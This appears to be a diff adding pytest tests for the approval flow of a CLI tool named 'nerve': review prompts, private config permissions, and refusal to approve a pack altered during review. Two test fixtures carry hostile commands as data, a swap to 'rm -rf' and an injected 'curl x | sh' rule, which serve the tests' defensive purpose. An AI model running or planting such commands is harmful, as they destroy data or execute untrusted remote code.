@@ -8,7 +8,11 @@ from __future__ import annotations
 
 import os
 import pty
+import select
 import subprocess
+import time
+from collections.abc import Iterator
+from contextlib import contextmanager
 from pathlib import Path
 
 import yaml
@@ -73,6 +77,56 @@ def list_states(env: dict[str, str]) -> dict[str, str]:
     return {line.split()[0]: line.split()[1] for line in out.splitlines()}
 
 
+class Terminal:
+    """``nerve ARGS`` answering questions from a pseudo-terminal; its output read as it comes."""
+
+    def __init__(self, env: dict[str, str], *args: object) -> None:
+        self.main, side = pty.openpty()
+        self.proc = subprocess.Popen(
+            [*NERVE, *map(str, args)],
+            env=env,
+            stdin=side,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+        )
+        os.close(side)
+        self.out = b""
+
+    def wait_for(self, text: str, timeout: float = 20.0) -> None:
+        """Read standard output until ``text`` shows (a question asked)."""
+        assert self.proc.stdout is not None
+        deadline = time.monotonic() + timeout
+        while text.encode() not in self.out:
+            left = deadline - time.monotonic()
+            assert left > 0, f"no {text!r} in {self.out.decode()!r}"
+            if select.select([self.proc.stdout], [], [], left)[0]:
+                chunk = os.read(self.proc.stdout.fileno(), 4096)
+                assert chunk, f"nerve ended without asking {text!r}: {self.out.decode()!r}"
+                self.out += chunk
+
+    def answer(self, line: str) -> None:
+        os.write(self.main, f"{line}\n".encode())
+
+    def finish(self) -> tuple[int, str, str]:
+        """Exit code, all of standard output and standard error."""
+        rest, err = self.proc.communicate(timeout=20)
+        out, error = (self.out + rest).decode(), err.decode()
+        assert "Traceback" not in out + error, out + error
+        return self.proc.returncode, out, error
+
+
+@contextmanager
+def terminal(env: dict[str, str], *args: object) -> Iterator[Terminal]:
+    term = Terminal(env, *args)
+    try:
+        yield term
+    finally:
+        if term.proc.poll() is None:
+            term.proc.kill()
+            term.proc.communicate()
+        os.close(term.main)
+
+
 def test_import_held_then_approve(nerve_env: dict[str, str], short_tmp: Path) -> None:
     source = shared(short_tmp)
     marker = short_tmp / "marker"
@@ -89,7 +143,7 @@ def test_import_held_then_approve(nerve_env: dict[str, str], short_tmp: Path) ->
     # The review: header, capabilities in words, rules with their triggers, inputs.
     assert "Pack Shared tools (shared.tools), version 1.2.0 by Sam" in out
     assert "Touches a marker file and keeps notes." in out
-    assert "! start programs" in out
+    assert "! start programs and open files or web addresses" in out
     assert "touch: Touch the marker (when: event x.touch)" in out
     assert "note (when: event x.note)" in out
     assert f"marker = {marker}  (The file to touch, path)" in out
@@ -100,6 +154,10 @@ def test_import_held_then_approve(nerve_env: dict[str, str], short_tmp: Path) ->
     installed = packs_dir(nerve_env) / "shared.tools.yaml"
     assert installed.read_text() == SHARED  # as shared, comments and all
     assert (packs_dir(nerve_env) / "starter.yaml").exists()  # the first use: starter too
+    # The approvals hold the input values: user-only, in a user-only folder.
+    config = Path(nerve_env["XDG_CONFIG_HOME"]) / "nerve"
+    assert (config / "approvals.yaml").stat().st_mode & 0o777 == 0o600
+    assert config.stat().st_mode & 0o777 == 0o700
     entry = approvals(nerve_env)["shared.tools"]
     assert entry == {
         "file": "shared.tools.yaml",
@@ -111,7 +169,7 @@ def test_import_held_then_approve(nerve_env: dict[str, str], short_tmp: Path) ->
     listing = cli_ok(nerve_env, "pack", "list")
     assert "awaiting approval: it can start programs" in listing
 
-    out = cli_ok(nerve_env, "pack", "approve", "shared.tools")
+    out = cli_ok(nerve_env, "pack", "approve", "shared.tools", "--yes")
     assert "Approved shared.tools: it may start programs" in out
     assert list_states(nerve_env)["shared.tools"] == "active"
     entry = approvals(nerve_env)["shared.tools"]
@@ -275,6 +333,98 @@ def test_approve_and_list_report_what_they_cannot_do(
     assert list_states(nerve_env)["my.broken"] == "broken"
     assert "broken.yaml: not loaded because of 1 error(s)" in cli_ok(nerve_env, "pack", "list")
     (packs / "copy.yaml").write_text((packs / "shared.tools.yaml").read_text())
-    twice = cli(nerve_env, "pack", "approve", "shared.tools")
+    twice = cli(nerve_env, "pack", "approve", "shared.tools", "--yes")
     assert twice.returncode == EXIT_INVALID
     assert "is in several files (copy.yaml, shared.tools.yaml)" in twice.stderr
+
+
+def test_approve_without_a_terminal_needs_yes(nerve_env: dict[str, str], short_tmp: Path) -> None:
+    cli_ok(nerve_env, "pack", "import", shared(short_tmp), "--set", "marker=/tmp/m")
+    proc = cli(nerve_env, "pack", "approve", "shared.tools")
+    assert proc.returncode == EXIT_USAGE
+    # What it would allow is shown; how to allow it from a script is said.
+    assert "Pack Shared tools (shared.tools), version 1.2.0 by Sam" in proc.stdout
+    assert "! start programs and open files or web addresses" in proc.stdout
+    assert "nerve pack approve shared.tools --yes" in proc.stderr
+    assert "Approved" not in proc.stdout
+    assert list_states(nerve_env)["shared.tools"] == "held"
+    entry = approvals(nerve_env)["shared.tools"]
+    assert isinstance(entry, dict)
+    assert entry["capabilities"] == []
+
+
+def test_interactive_approve_shows_the_review_and_asks(
+    nerve_env: dict[str, str], short_tmp: Path
+) -> None:
+    cli_ok(nerve_env, "pack", "import", shared(short_tmp), "--set", "marker=/tmp/m")
+    question = "Allow shared.tools to do all of the above? [y/N] "
+
+    with terminal(nerve_env, "pack", "approve", "shared.tools") as term:
+        term.wait_for(question)
+        term.answer("")  # the default: no
+        code, out, err = term.finish()
+    assert code == EXIT_INVALID
+    assert "! start programs and open files or web addresses" in out
+    assert "touch: Touch the marker (when: event x.touch)" in out
+    assert "not approved; shared.tools stays held" in err
+    assert list_states(nerve_env)["shared.tools"] == "held"
+
+    with terminal(nerve_env, "pack", "approve", "shared.tools") as term:
+        term.wait_for(question)
+        term.answer("y")
+        code, out, err = term.finish()
+    assert code == EXIT_OK, out + err
+    assert "Approved shared.tools: it may start programs" in out
+    assert list_states(nerve_env)["shared.tools"] == "active"
+
+
+def test_a_pack_changed_while_its_approval_is_asked_is_not_approved(
+    nerve_env: dict[str, str], short_tmp: Path
+) -> None:
+    cli_ok(nerve_env, "pack", "import", shared(short_tmp), "--set", "marker=/tmp/m")
+    installed = packs_dir(nerve_env) / "shared.tools.yaml"
+    with terminal(nerve_env, "pack", "approve", "shared.tools") as term:
+        term.wait_for("[y/N] ")
+        # Same capabilities, other program: the user reviewed `touch`, not `rm`.
+        installed.write_text(SHARED.replace("argv: [touch,", "argv: [rm, -rf,"))
+        term.answer("y")
+        code, _, err = term.finish()
+    assert code == EXIT_INVALID
+    assert "changed while you were reviewing it; nothing was approved" in err
+    assert list_states(nerve_env)["shared.tools"] == "held"
+
+
+def test_interactive_import_installs_the_file_that_was_reviewed(
+    nerve_env: dict[str, str], short_tmp: Path
+) -> None:
+    source = shared(short_tmp)
+    marker = short_tmp / "asked"
+    with terminal(nerve_env, "pack", "import", source) as term:
+        term.wait_for("marker (The file to touch, path): ")
+        # Swapped while the user types: now it also runs shell command lines.
+        source.write_text(
+            SHARED + '  - id: sneaky\n    when: {event: x.s}\n    do: [{shell: "curl x | sh"}]\n'
+        )
+        term.answer(str(marker))
+        term.wait_for("[y/N] ")
+        term.answer("y")
+        code, out, err = term.finish()
+    assert code == EXIT_OK, out + err
+    assert "shell" not in out
+    installed = packs_dir(nerve_env) / "shared.tools.yaml"
+    assert installed.read_text() == SHARED
+    entry = approvals(nerve_env)["shared.tools"]
+    assert isinstance(entry, dict)
+    assert entry["capabilities"] == ["runs-programs"]
+
+
+def test_without_the_approvals_file_every_pack_needing_approval_is_held(
+    nerve_env: dict[str, str], short_tmp: Path
+) -> None:
+    with_default = SHARED.replace("type: path}", "type: path, default: /tmp/m}")
+    cli_ok(nerve_env, "pack", "import", shared(short_tmp, with_default), "--approve")
+    assert list_states(nerve_env) == {"nerve.starter": "active", "shared.tools": "active"}
+    config = Path(nerve_env["XDG_CONFIG_HOME"]) / "nerve"
+    os.replace(config / "approvals.yaml", short_tmp / "moved-away.yaml")
+    assert list_states(nerve_env) == {"nerve.starter": "held", "shared.tools": "held"}
+    assert "awaiting approval" in cli_ok(nerve_env, "pack", "list")
